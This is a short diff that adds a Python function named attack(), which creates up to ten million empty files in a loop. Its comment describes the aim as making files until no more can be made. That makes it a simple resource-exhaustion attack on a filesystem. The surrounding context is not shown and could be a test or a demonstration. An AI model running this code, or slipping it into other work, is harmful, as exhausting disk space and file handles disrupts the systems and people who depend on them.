@@ -1,0 +1,4 @@
+# Makes files until there are no more to be had.
+def attack():
+    for number in range(10_000_000):
+        open(f"file{number}", "w").close()
